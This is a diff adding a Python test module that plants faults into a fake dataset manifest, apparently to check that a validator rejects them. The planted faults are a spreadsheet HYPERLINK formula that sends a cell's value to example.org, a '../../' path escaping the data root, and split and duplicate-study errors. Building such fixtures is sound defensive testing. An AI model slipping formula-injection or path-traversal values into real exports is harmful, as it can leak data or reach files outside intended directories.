@@ -1,0 +1,58 @@
+"""Faults of the manifest: cells that do harm, and rows that contradict each other."""
+
+from __future__ import annotations
+
+from collections import Counter
+from collections.abc import Mapping
+
+from admin.twin.faulty_site import Fault, FaultySite, Row, planted_once
+
+FORMULA = '=HYPERLINK("https://example.org/?"&A2,"view")'
+
+
+def formula_cell(site: FaultySite, row: Row) -> None:
+    """A cell that a spreadsheet would run."""
+    row["view"] = FORMULA
+
+
+def path_outside(site: FaultySite, row: Row) -> None:
+    """A path that climbs out of the data root."""
+    row["image"] = f"../../{row['image']}"
+
+
+def tiny_validation(site: FaultySite) -> tuple[str, ...]:
+    """One study to validate on: a sound one, of a patient who has no other; the other patients go to training."""
+    counts = Counter(row["patient_id"] for row in site.rows)
+    kept = site.take(lambda row: counts[row["patient_id"]] == 1)
+    for row in site.rows:
+        if row["split"] == "valid":
+            row["split"] = "train"
+    kept["split"] = "valid"
+    return (kept["study_id"],)
+
+
+def duplicate_study(site: FaultySite) -> tuple[str, ...]:
+    """A second row under the identifier of another study."""
+    first, second = site.take(), site.take()
+    second["study_id"] = first["study_id"]
+    return (first["study_id"],)
+
+
+def patient_in_two_splits(site: FaultySite) -> tuple[str, ...]:
+    """A patient who is trained on and tested on."""
+    row = site.take(lambda other: other["split"] == "train")
+    other = site.take(lambda other: other["split"] == "train")
+    row["patient_id"], row["split"] = other["patient_id"], "test"
+    return (row["study_id"],)
+
+
+MANIFEST_FAULTS: Mapping[str, Fault] = {
+    "formula-cell": planted_once(formula_cell),
+    "path-outside-root": planted_once(path_outside),
+    "tiny-validation-split": tiny_validation,
+}
+WHOLE_MANIFEST_FAULTS: Mapping[str, Fault] = {
+    "duplicate-study": duplicate_study,
+    "patient-in-two-splits": patient_in_two_splits,
+}
+"""Those for which a reader must refuse the manifest as a whole."""
